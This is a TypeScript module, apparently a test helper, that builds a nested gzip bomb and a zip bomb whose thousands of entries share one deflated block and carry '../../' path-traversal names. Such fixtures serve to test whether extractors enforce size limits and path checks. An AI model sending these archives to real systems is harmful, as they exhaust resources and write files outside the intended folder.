import { crc32, deflateRawSync, gzipSync } from "node:zlib";

const MiB = 2 ** 20;

/** Creates a gzip bomb: a few kilobytes that unpack in two layers to `bytes` zeros. */
export function createGzipBomb(bytes: number = 256 * MiB): Buffer {
  return gzipSync(gzipSync(Buffer.alloc(bytes), { level: 9 }), { level: 9 });
}

/**
 * Creates a zip bomb whose entries all share the same 16 MiB of zeros: tens of kilobytes that unpack to
 * `entries` times as much. Its names point outside the target folder.
 */
export function createZipBomb(entries = 4_000): Buffer {
  const zeros = Buffer.alloc(16 * MiB);
  const packed = deflateRawSync(zeros, { level: 9 });
  const sizes = { packed: packed.length, whole: zeros.length, crc: crc32(zeros) };
  const local = Buffer.concat([createHeader(LOCAL, "../../0", sizes), packed]);
  const central = Array.from({ length: entries }, (_, place) =>
    createHeader(CENTRAL, `../../${place}`, sizes),
  );
  const directory = Buffer.concat(central);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries, 8);
  end.writeUInt16LE(entries, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(local.length, 16);
  return Buffer.concat([local, directory, end]);
}

interface Sizes {
  readonly packed: number;
  readonly whole: number;
  readonly crc: number;
}

/** Offsets of the fields in the two kinds of header. */
const LOCAL = { signature: 0x04034b50, length: 30, method: 8, crc: 14 };
const CENTRAL = { signature: 0x02014b50, length: 46, method: 10, crc: 16 };

function createHeader(kind: typeof LOCAL, name: string, { packed, whole, crc }: Sizes): Buffer {
  const fields = Buffer.alloc(kind.length);
  fields.writeUInt32LE(kind.signature, 0);
  fields.writeUInt16LE(8, kind.method); // deflated
  fields.writeUInt32LE(crc, kind.crc);
  fields.writeUInt32LE(packed, kind.crc + 4);
  fields.writeUInt32LE(whole, kind.crc + 8);
  fields.writeUInt16LE(name.length, kind.crc + 12);
  return Buffer.concat([fields, Buffer.from(name)]);
}
